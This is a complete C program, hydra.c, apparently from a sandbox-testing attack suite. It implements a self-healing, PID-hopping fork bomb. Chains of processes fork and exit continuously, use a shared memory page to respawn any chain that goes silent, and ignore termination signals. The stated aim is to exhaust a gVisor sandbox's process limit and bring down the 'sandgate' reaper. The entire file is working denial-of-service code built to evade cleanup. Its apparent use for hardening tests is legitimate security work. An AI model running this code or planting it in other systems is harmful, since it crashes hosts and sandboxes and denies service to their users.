/*
 * hydra.c SLOTS: a self-healing set of pid-hopping chains (built static on
 * the host by the attack suite, run inside the sandbox). Each chain forks
 * and its parent exits, without pause; a shared page holds a last-seen
 * time per slot, and a chain refills any slot not seen for 20 ms. With 24
 * chains the sandbox's process limit fills with processes that exited and
 * were not yet reaped, which is what takes a gVisor sandbox down when
 * sandgate's reaper must start in it.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/mman.h>

#define MAXS	64

static volatile long long	*seen, *tok;
static int			 nslots;

static long long
now_ms(void)
{
	struct timespec	t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

static void __attribute__((noreturn))
chain(int id, long long my)
{
	long long	t, o, nt;
	int		s;

	for (;;) {
		if (fork() > 0)
			_exit(0);
		if (tok[id] != my)
			_exit(0);
		t = now_ms();
		seen[id] = t;
		for (s = 0; s < nslots; s++) {
			o = seen[s];
			if (s != id && t - o > 20 &&
			    __sync_bool_compare_and_swap(&seen[s], o, t)) {
				nt = ((long long)getpid() << 20) ^ t ^ random();
				tok[s] = nt;
				if (fork() == 0)
					chain(s, nt);
			}
		}
	}
}

int
main(int argc, char **argv)
{
	long long	t;
	int		i;

	nslots = argc > 1 ? atoi(argv[1]) : 24;
	if (nslots < 1 || nslots > MAXS)
		nslots = MAXS;
	signal(SIGHUP, SIG_IGN);
	signal(SIGTERM, SIG_IGN);
	signal(SIGINT, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	seen = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED |
	    MAP_ANONYMOUS, -1, 0);
	if (seen == MAP_FAILED)
		return 1;
	tok = seen + MAXS;
	t = now_ms();
	for (i = 0; i < MAXS; i++) {
		tok[i] = i + 1;
		seen[i] = t;
	}
	if (fork() != 0)
		return 0;
	setsid();
	for (i = 1; i < nslots; i++)
		if (fork() == 0)
			chain(i, i + 1);
	chain(0, 1);
}
